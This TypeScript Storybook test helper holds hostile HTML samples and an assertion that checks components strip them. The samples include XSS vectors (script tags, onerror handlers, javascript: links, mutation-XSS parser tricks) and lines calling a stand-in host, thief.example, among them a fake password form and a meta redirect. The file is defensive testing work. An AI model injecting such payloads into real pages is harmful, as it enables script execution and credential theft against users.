import { expect } from 'storybook/test'

/**
 * HTML samples that run code, fetch, or imitate the page around them. Each marks the window or the page, or calls a server. Every
 * component that renders foreign HTML is tested with them.
 */
export const hostileHtml = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 1">',
  '<svg onload="window.hit = 1"><script>window.hit = 1</script></svg>',
  '<svg><style><img src=x onerror=window.hit=1></style></svg>',
  '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
  '<object data="data:text/html,<script>parent.hit=1</script>"></object>',
  '<details open ontoggle="window.hit = 1">x</details>',
  '<a href="javascript:window.hit=1">x</a>',
  '<a href=" java&#10;script:window.hit=1">x</a>',
  '<a href="data:text/html,<script>window.hit=1</script>">x</a>',
  '<form action="https://thief.example"><input name="password"><button>Sign in</button></form>',
  '<button formaction="javascript:window.hit=1">x</button>',
  '<p style="position: fixed; inset: 0; background: url(https://thief.example/seen.png)">x</p>',
  '<style>body { display: none }</style>',
  '<link rel="stylesheet" href="https://thief.example/a.css">',
  '<meta http-equiv="refresh" content="0; url=https://thief.example">',
  '<base href="https://thief.example/">',
  '<img src="https://thief.example/seen.png" alt="x">',
  '<video poster="https://thief.example/seen.png" src="https://thief.example/a.mp4"></video>',
  '<p id="root" class="x" data-field="note" aria-label="x" onclick="window.hit = 1">x</p>',
  '<p><b><svg><p></svg><img src=x onerror=window.hit=1>',
  '<template><img src=x onerror=window.hit=1></template>',
  '<x-y onfocus="window.hit = 1" tabindex="0" autofocus>x</x-y>',
  // The parser takes anything after this sample as part of it.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
]

/** Attributes that foreign HTML may have. */
const known = new Set([
  'colspan',
  'dir',
  'href',
  'lang',
  'rel',
  'reversed',
  'rowspan',
  'start',
  'target',
  'title',
])

/** Checks that nothing in the rendered elements runs, is fetched, or imitates the console. */
export async function expectHarmless(drawn: readonly Element[]): Promise<void> {
  for (const element of drawn) {
    await expect(element.tagName).not.toMatch(
      /^(SCRIPT|IMG|SVG|MATH|IFRAME|OBJECT|EMBED|FORM|INPUT|BUTTON|STYLE|LINK|META|BASE|VIDEO|TEMPLATE|DETAILS|X-Y)$/i,
    )
    await expect(element.getAttributeNames().filter((name) => !known.has(name))).toEqual([])
    await expect(element.getAttribute('href') ?? 'https:').toMatch(/^(https?|mailto|tel):/)
  }
  await expect(window).not.toHaveProperty('hit')
}
